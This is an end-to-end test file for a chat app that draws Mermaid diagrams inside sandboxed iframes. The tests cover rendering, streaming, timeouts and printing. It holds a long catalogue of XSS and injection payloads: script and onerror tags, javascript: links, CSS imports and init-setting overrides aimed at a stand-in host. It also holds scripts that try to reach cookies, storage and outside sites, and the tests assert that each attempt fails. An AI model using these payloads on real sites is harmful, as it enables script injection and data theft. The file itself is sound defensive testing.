"""Diagrams in real Chromium: drawn in frames without an origin, which reach nothing."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
from playwright.async_api import Browser, BrowserContext, Dialog, Frame, Page, expect

from tests.end_to_end.browser.rendering.test_browser_text import show
from tests.end_to_end.browser.test_browser import browser as browser  # the fixtures
from tests.end_to_end.browser.test_browser import context as context
from tests.end_to_end.browser.test_browser import pytestmark as pytestmark
from tests.end_to_end.frames.raw import log_in
from tests.end_to_end.site.harness import Server
from tests.helpers.patience import PATIENCE

SMALL = "flowchart LR\n  A[Start] --> B[End]"
BROKEN = "flowchart LR\n  A --> --> ((("
# Takes longer than a drawing may, and would take all of the page's time if it were drawn in it.
SLOW = "flowchart TD\n" + "\n".join(
    f"n{n * 7919 % 149} --> n{n * 104729 % 151}" for n in range(495)
)
DRAWN = "figure[data-picture=drawn]"


def fenced(*sources: str) -> str:
    return "\n\n".join(f"```mermaid\n{source}\n```" for source in sources) + "\n\nWords after it."


def frames(page: Page) -> list[Frame]:
    return [frame for frame in page.frames if frame.url.endswith("/diagram")]


@pytest.mark.slow
async def test_a_diagram_is_drawn_and_its_source_is_a_button_away(
    context: BrowserContext, server: Server
) -> None:
    page = await context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    pink, long = SMALL + "\n  style B fill:#f9f", SMALL + "\n%%" + " long" * 4000
    await show(page, server, fenced(pink, BROKEN, long))
    figures = page.locator("figure.diagram")
    picture = page.frame_locator('iframe[title="Flowchart"]')
    await expect(picture.locator("svg")).to_contain_text("Start")
    await expect(figures.nth(1)).to_contain_text("could not be drawn")
    await expect(figures.nth(2)).to_contain_text("too long to be drawn")
    for failed in (1, 2):
        await expect(figures.nth(failed).locator("pre")).to_contain_text("flowchart LR")
    assert len([url for url in asked if url.endswith("/mermaid.js")]) == 1

    source = figures.first.locator("pre")
    await expect(source).to_be_hidden()
    switch = figures.first.get_by_role("button", name="Show the source")
    await switch.click()
    await expect(source).to_be_visible()
    await expect(page.locator("iframe")).to_be_hidden()
    await switch.click()
    await expect(source).to_be_hidden()

    # Another theme draws it in other colours, in the same frame.
    ink = "getComputedStyle(document.querySelector('svg text') ?? document.body).fill"
    (frame,) = frames(page)
    assert await frame.evaluate(ink) == "rgb(26, 35, 38)"
    await page.get_by_role("button", name="Dark", exact=True).click()
    await frame.wait_for_function(f"{ink} === 'rgb(227, 232, 232)'")
    chosen = "getComputedStyle([...document.querySelectorAll('svg text')].at(-1)).fill"
    assert await frame.evaluate(chosen) == "rgb(26, 35, 38)"  # on a ground for light pages
    assert len(frames(page)) == 1


GROW = """() => {
    const { Markdown } = window.parley;
    const body = document.createElement("div");
    body.className = "prose";
    document.querySelector(".log").append(body);
    globalThis.growing = new Markdown(body);
    globalThis.loads = 0;
    const whenLoaded = (event) => (loads += event.target.matches?.("iframe"));
    body.addEventListener("load", whenLoaded, true);
}"""


async def test_a_growing_answer_draws_a_diagram_once_its_fence_is_closed_and_never_again(
    context: BrowserContext, server: Server
) -> None:
    page = await context.new_page()
    await page.goto(server.url)
    await expect(page.locator(".log")).to_be_attached()
    text = "Words.\n\n" + fenced(SMALL)
    await page.evaluate(GROW)
    half = text.index("B[End]")
    await page.evaluate("text => growing.update(text, false)", text[:half])
    assert await page.locator("figure.diagram").count() == 0
    for end in range(half, len(text)):
        await page.evaluate("text => growing.update(text, false)", text[:end])
    await expect(page.locator(DRAWN)).to_be_visible()
    more = text + "".join(f"\n\nMore words, {n}." for n in range(20))
    for end in range(len(text), len(more), 40):
        await page.evaluate("text => growing.update(text, false)", more[:end])
    await page.evaluate("text => growing.update(text, true)", more)
    await expect(page.locator(DRAWN)).to_have_count(1)
    assert await page.evaluate("loads") == 1
    # One whose end never came stays as it was written.
    await page.evaluate(GROW)
    await page.evaluate("text => growing.update(text, true)", text[:half])
    assert await page.locator("figure.diagram").count() == 1


ALERT = "alert(1)"
EVIL = "http://chat.example/"  # stands for the address of `elsewhere`
LABELS = (  # what a label may hold
    f"<script>{ALERT}</script>",
    f"<img src=x onerror={ALERT}>",
    f"<img src='{EVIL}i.png'>",
    f"<svg onload={ALERT}>",
    f"<iframe srcdoc='<script>{ALERT}</script>'></iframe>",
    f"<iframe src='{EVIL}'></iframe>",
    f"<a href='javascript:{ALERT}'>x</a>",
    f"<a href='{EVIL}' target=_top>x</a>",
    f"<b onmouseover={ALERT}>x</b>",
    f"<style>@import '{EVIL}s.css';</style>",
    f"<link rel=stylesheet href='{EVIL}s.css'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<object data='javascript:{ALERT}'></object>",
    f"<form action='{EVIL}'><input autofocus onfocus={ALERT}></form>",
    f"<math><mtext><img src=x onerror={ALERT}></mtext></math>",
    f"<foreignObject><img src=x onerror={ALERT}></foreignObject>",
    f"`**x** <img src=x onerror={ALERT}>`",
    f"&lt;img src=x onerror={ALERT}&gt;",
    f"#lt;img src=x onerror={ALERT}#gt;",
    f"$$\\href{{javascript:{ALERT}}}{{x}}$$",
    f"$$\\includegraphics{{{EVIL}i.png}}$$",
    f"fa:fa-<img src=x onerror={ALERT}>",
)
INIT = (
    '%%{{init: {} }}%%\nflowchart LR\n  A["<img src=x onerror=alert(1)>"] --> B[end]\n'
    '  click A "javascript:alert(1)"'
)
SETTINGS: tuple[dict[str, Any], ...] = (
    {"securityLevel": "loose"},
    {"securityLevel": "loose", "htmlLabels": True, "flowchart": {"htmlLabels": True}},
    {"securityLevel": "sandbox"},
    {"secure": [], "securityLevel": "loose"},
    {"flowchart": {"securityLevel": "loose", "htmlLabels": True}},
    {"dompurifyConfig": {"ADD_TAGS": ["script", "img"], "ADD_ATTR": ["onerror"]}},
    {"themeCSS": f"@import url({EVIL}s.css);"},
    {"themeCSS": f"svg {{ background: url({EVIL}i.png); }}"},
    {"themeCSS": "</style><img src=x onerror=alert(1)>"},
    {"fontFamily": f"x; background: url({EVIL}i.png)"},
    {"theme": "base", "themeVariables": {"primaryColor": f"url({EVIL}i.png)"}},
    {"theme": "base", "themeVariables": {"fontFamily": f"x}} @import '{EVIL}s.css'; {{"}},
    {"__proto__": {"securityLevel": "loose"}},
    {"constructor": {"prototype": {"securityLevel": "loose"}}},
    {"startOnLoad": True, "maxTextSize": 99999999, "maxEdges": 99999999},
)
CLICKS = (
    f'click A "javascript:{ALERT}"',
    f'click A href "javascript:{ALERT}" _self',
    f'click A "{EVIL}" _blank',
    f'click A href "{EVIL}" "tip" _top',
    "click A alert",
    f'click A call alert("{EVIL}")',
    f'click A href "data:text/html,<script>{ALERT}</script>"',
    f'click A "{EVIL}" "<img src=x onerror={ALERT}>"',
    f"style A fill:url({EVIL}i.png)",
    f'style A background:url("{EVIL}i.png")',
    f"classDef x fill:url({EVIL}i.png)\n  class A x",
    f'A@{{ img: "{EVIL}i.png", label: "x" }}',
    f'A@{{ icon: "{EVIL}i.svg", label: "x" }}',
)
WHOLE = (
    "---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\n"
    f'flowchart LR\n  A["<img src=x onerror={ALERT}>"]',
    f"---\ntitle: <img src=x onerror={ALERT}>\n---\nflowchart LR\n  A --> B",
    f"sequenceDiagram\n  Alice->>Bob: <img src=x onerror={ALERT}>\n  link Alice: Site @ {EVIL}",
    f'sequenceDiagram\n  participant A\n  links A: {{"x": "javascript:{ALERT}"}}\n  A->>A: hi',
    f'classDiagram\n  class A\n  click A href "javascript:{ALERT}"\n  link A "{EVIL}"',
    f"classDiagram\n  class A {{\n    +<img src=x onerror={ALERT}>\n  }}",
    f"gantt\n  title <script>{ALERT}</script>\n  dateFormat YYYY-MM-DD\n  A :a1, 2024-01-01, 3d\n"
    f'  click a1 href "javascript:{ALERT}"\n  click a1 call alert()',
    f'pie title <img src=x onerror={ALERT}>\n  "<script>{ALERT}</script>" : 3',
    f'stateDiagram-v2\n  state "<img src=x onerror={ALERT}>" as s\n  [*] --> s',
    f'erDiagram\n  A ||--|| B : "<img src=x onerror={ALERT}>"',
    f"mindmap\n  root((<img src=x onerror={ALERT}>))\n    ::icon({EVIL})",
    f'gitGraph\n  commit id: "<img src=x onerror={ALERT}>"',
    f"timeline\n  title x\n  2020 : <img src=x onerror={ALERT}>",
    f"journey\n  title <svg onload={ALERT}>\n  section x\n    <img src=x onerror={ALERT}>: 5: Me",
    f'requirementDiagram\n  requirement a {{\n    text: "<img src=x onerror={ALERT}>"\n  }}',
    f'C4Context\n  Person(a, "<img src=x onerror={ALERT}>", $link="javascript:{ALERT}")',
    f'C4Context\n  Person(a, "x", $link="{EVIL}", $sprite="{EVIL}i.png")',
    f'block-beta\n  A["<img src=x onerror={ALERT}>"]',
    f"quadrantChart\n  title <img src=x onerror={ALERT}>\n  A: [0.3, 0.6]",
    f'architecture-beta\n  service a({EVIL})["<img src=x onerror={ALERT}>"]',
)
ATTACKS = (
    *(f'flowchart LR\n  A["{label}"] -->|"{label}"| B' for label in LABELS),
    *(INIT.format(json.dumps(setting)) for setting in SETTINGS),
    *(f"flowchart LR\n  A[x] --> B[y]\n  {click}" for click in CLICKS),
    *WHOLE,
)
# What a script in the frame could try: each must fail.
REACHES = """() => {
    const tried = {
        page: () => parent.document,
        top: () => top.document.cookie,
        sibling: () => parent.frames[1].document,
        cookie: () => document.cookie,
        storage: () => localStorage.length,
        session: () => sessionStorage.length,
        databases: () => indexedDB.open("x"),
        opened: () => open("about:blank").document,
    };
    const reached = origin === "null" ? [] : ["origin"];
    for (const [name, attempt] of Object.entries(tried)) {
        try { attempt(); reached.push(name); } catch { }
    }
    return reached;
}"""
ASKS = """async (elsewhere) => {
    const socket = async () => {
        const opened = new WebSocket(elsewhere.replace("http", "ws"));
        await new Promise((resolve, reject) => {
            opened.onopen = resolve;
            opened.onerror = reject;
        });
    };
    const put = async (name, attributes) => {
        const element = Object.assign(document.createElement(name), attributes);
        const ended = new Promise((resolve, reject) => {
            element.onload = resolve;
            element.onerror = reject;
        });
        document.body.append(element);
        await ended;
    };
    const ended = await Promise.allSettled([
        fetch("/v1/sessions"),
        fetch(elsewhere),
        socket(),
        put("img", { src: elsewhere + "i.png" }),
        put("script", { src: elsewhere + "s.js" }),
        put("script", { src: "/static/js/main.js" }),
        put("link", { rel: "stylesheet", href: elsewhere + "s.css" }),
    ]);
    const script = document.createElement("script");
    script.textContent = "globalThis.ran = true";
    document.body.append(script);
    document.body.setAttribute("onclick", "globalThis.ran = true");
    document.body.click();
    const num = ended.filter(({ status }) => status === "fulfilled").length;
    return num + (globalThis.ran ? 1 : 0);
}"""
# Draws one after the other in a frame as the page makes it, and says what became of each.
DRAW = """async (sources) => {
    const { Frame } = await import("/static/js/diagrams/frame.js");
    const { look } = await import("/static/js/diagrams/look.js");
    const frame = await new Promise((resolve) => {
        const made = new Frame({ source: "pie", name: "x" }, { ondrawn: end, onfailed: end });
        document.querySelector(".log").append(made.element);
        function end() { resolve(made.element); }
    });
    const ends = [];
    for (const source of sources) {
        const answer = new Promise((resolve) => {
            addEventListener("message", ({ data }) => resolve(data), { once: true });
        });
        frame.contentWindow.postMessage({ source, ...look(false) }, "*");
        const isDrawn = (await answer).failed !== true;
        ends.push([source, isDrawn ? await globalThis.clickOnAll() : null]);
    }
    return ends;
}"""
CLICK = """() => {
    for (const element of document.body.querySelectorAll("*")) {
        for (const kind of ["mouseover", "mousedown", "mouseup", "click"]) {
            element.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }));
        }
    }
    const wrong = document.querySelectorAll("foreignObject, img, iframe, link, form, a[href]");
    const named = [...document.querySelectorAll("*")].filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith("on") || name === "xlink:href"));
    return [...wrong, ...named].map((element) => element.outerHTML.slice(0, 200));
}"""


class Elsewhere:
    """Another site, as it sees itself: `paths` are what was asked of it."""

    def __init__(self, port: int) -> None:
        self.url = f"http://chat.example:{port}/"
        self.paths: list[str] = []


@pytest.fixture
async def elsewhere() -> AsyncIterator[Elsewhere]:
    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        site.paths.append((await reader.readline()).decode())
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        writer.close()

    served = await asyncio.start_server(answer, "127.0.0.1", 0)
    site = Elsewhere(served.sockets[0].getsockname()[1])
    async with served:
        yield site


@asynccontextmanager
async def attacked(browser: Browser, server: Server) -> AsyncIterator[tuple[Page, list[str]]]:
    """A page, and the dialogs that it opened. Its console may say what the policy refused."""
    context = await browser.new_context(viewport={"width": 1280, "height": 800})
    context.set_default_timeout(PATIENCE * 1000)
    name, _, value = (await log_in(server)).partition("=")
    await context.add_cookies([{"name": name, "value": value, "url": server.url}])
    page = await context.new_page()
    dialogs: list[str] = []

    async def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        await dialog.dismiss()

    page.on("dialog", dismiss)
    yield page, dialogs
    await context.close()


async def test_what_runs_in_a_frame_reaches_nothing_of_the_page_and_no_other_site(
    browser: Browser, server: Server, elsewhere: Elsewhere
) -> None:
    async with attacked(browser, server) as (page, dialogs):
        hostile = [source.replace(EVIL, elsewhere.url) for source in ATTACKS[:2]]
        await show(page, server, fenced(SMALL, *hostile))
        await expect(page.locator(DRAWN)).to_have_count(3)
        frame = frames(page)[0]
        assert await frame.evaluate(REACHES) == []
        assert await frame.evaluate(ASKS, elsewhere.url) == 0

        # What it says to the page is taken for a height, or for nothing.
        place = page.locator(".picture").first
        await frame.evaluate("""() => {
            const heights = ["9px", NaN, -5, 1e9].map((height) => ({ height }));
            const words = [null, "x", 7, {}, [], { ready: 1 }, { failed: "x" }, { html: "<b>" }];
            for (const word of [...words, ...heights]) parent.postMessage(word, "*");
        }""")
        await expect(place).to_have_css("block-size", "576px")  # 36rem: the rest scrolls
        assert await place.evaluate("element => element.style.blockSize") == "4000px"
        await page.evaluate("""() => {
            postMessage({ failed: true }, "*"); // the page itself is no frame of a diagram
            return new Promise((resolve) => setTimeout(resolve));
        }""")
        await expect(page.locator(DRAWN)).to_have_count(3)

        await page.evaluate("""() => {
            const frame = document.querySelector("iframe");
            globalThis.left = new Promise((resolve) => frame.addEventListener("load", resolve));
        }""")
        await frame.evaluate("url => { location = url; }", elsewhere.url)
        await page.evaluate("async () => { await left; }")  # for a page that says what was refused
        assert (elsewhere.paths, dialogs) == ([], [])
        assert page.url.startswith(server.url)


@pytest.mark.slow
async def test_no_attack_in_a_diagram_runs_or_asks_for_anything(
    browser: Browser, server: Server, elsewhere: Elsewhere
) -> None:
    attacks = [source.replace(EVIL, elsewhere.url) for source in ATTACKS]
    assert len(attacks) > 60
    async with attacked(browser, server) as (page, dialogs):
        asked: list[str] = []
        page.on("requestfinished", lambda request: asked.append(request.url))

        async def click_on_all() -> Any:
            return await frames(page)[0].evaluate(CLICK)

        await page.expose_function("clickOnAll", click_on_all)
        await page.goto(server.url)
        await expect(page.locator(".log")).to_be_attached()
        ends = await page.evaluate(DRAW, attacks)
        assert (elsewhere.paths, dialogs) == ([], [])
        assert [url for url in asked if not url.startswith(server.url)] == []
        drawn = [(source, found) for source, found in ends if found is not None]
        assert len(drawn) > len(attacks) / 2, "most of them must be drawn, or nothing is tried"
        assert [end for end in drawn if end[1] != []] == []


@pytest.mark.slow
async def test_a_diagram_that_takes_too_long_is_given_up_and_holds_up_nothing(
    context: BrowserContext, server: Server
) -> None:
    page = await context.new_page()
    await show(page, server, fenced(SMALL, SLOW, SMALL))
    await page.evaluate("""() => {
        globalThis.longest = 0;
        let last = performance.now();
        setInterval(() => {
            longest = Math.max(longest, performance.now() - last);
            last = performance.now();
        }, 10);
    }""")
    figures = page.locator("figure.diagram")
    await expect(figures.nth(1)).to_contain_text("took too long to draw")
    for number in (0, 2):
        await figures.nth(number).scroll_into_view_if_needed()
        await expect(figures.nth(number)).to_have_attribute("data-picture", "drawn")
    longest = await page.evaluate("longest")
    print(f"the page's longest pause: {longest:.0f} ms")
    assert longest < 2000  # of 5 s and more that a frame was busy

    # In other colours it has no more time than at first.
    await figures.nth(2).scroll_into_view_if_needed()
    for frame in frames(page):
        await frame.evaluate("() => { mermaid.render = () => new Promise(() => {}); }")
    await page.get_by_role("button", name="Dark", exact=True).click()
    await expect(page.get_by_text("took too long to draw")).to_have_count(2)


@pytest.mark.slow
async def test_of_many_diagrams_a_few_have_a_frame_and_paper_shows_them_all(
    context: BrowserContext, server: Server
) -> None:
    page = await context.new_page()
    await show(page, server, fenced(*[SMALL] * 50))
    figures = page.locator("figure.diagram")
    await expect(figures).to_have_count(50)
    for number in range(49, -1, -1):
        await figures.nth(number).scroll_into_view_if_needed()
        await expect(figures.nth(number)).to_have_attribute("data-picture", "drawn")
        assert len(frames(page)) <= 16
    await page.emulate_media(media="print")
    for number, shown in ((0, "iframe"), (49, "pre")):
        other = "pre" if shown == "iframe" else "iframe"
        await expect(figures.nth(number).locator(shown)).to_be_visible()
        await expect(figures.nth(number).locator(other)).to_be_hidden()
